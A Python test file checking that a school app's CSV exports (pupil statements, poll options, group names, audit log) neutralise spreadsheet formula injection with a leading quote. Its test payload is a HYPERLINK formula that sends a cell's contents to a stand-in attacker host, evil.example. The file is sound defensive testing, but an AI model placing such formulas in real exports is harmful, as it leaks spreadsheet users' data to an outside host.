"""Finding 3: every CSV export keeps its cells as data. A cell that starts like a formula gets
a leading quote, whoever wrote it: a pupil's statement, a poll option, a group name, an audit
entry."""

import csv
import io

from sqlmodel import select

from app.models import Statement
from app.services import voting
from support.voting import form

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")'


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter) for cell in row]


def _starts_like_a_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not cell.lstrip("-").replace(",", "").isdigit()


def test_a_pupils_statement_is_exported_as_text(app, pupil, council, session):
    assert pupil.form("/stellingen", {"text": FORMULA + " meer pauze"}).status_code == 200
    item = session.exec(select(Statement)).one()
    council.form(f"/council/moderation/statement/{item.id}", {"decision": "approve"})
    r = council.get("/council/voting.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    cells = _cells(r.text, ";")
    assert "'" + FORMULA + " meer pauze" in cells
    assert not [c for c in cells if _starts_like_a_formula(c)]


def test_poll_options_and_group_names_are_exported_as_text(app, admin, council, session, school):
    assert admin.form("/admin/groups", {"name": "@klas", "parent": "3de jaar"}, follow_redirects=False).status_code == 303
    poll = voting.create_poll(session, council.staff, form(
        "Wat eten we?", kind="single", options="+frietjes\n-soep\n\tpasta\n=1+1"))
    session.commit()
    r = council.get(f"/council/voting/polls/{poll.id}/results.csv")
    cells = _cells(r.text, ";")
    for label in ("+frietjes", "-soep", "=1+1"):
        assert "'" + label in cells
    assert not [c for c in cells if _starts_like_a_formula(c)]
    audit = admin.get("/admin/audit.csv")
    cells = _cells(audit.text)
    assert "'@klas" in cells and not [c for c in cells if _starts_like_a_formula(c)]


def test_numbers_stay_numbers():
    from app.security.csv import neutralise, write

    assert neutralise(-5) == -5 and neutralise("-5") == "-5" and neutralise("12,5") == "12,5"
    assert neutralise("-5 dagen") == "'-5 dagen" and neutralise("\rcmd") == "'\rcmd" and neutralise("\tx") == "'\tx"
    assert _cells(write([["=1+2", 3, None, "ok"]])) == ["'=1+2", "3", "", "ok"]
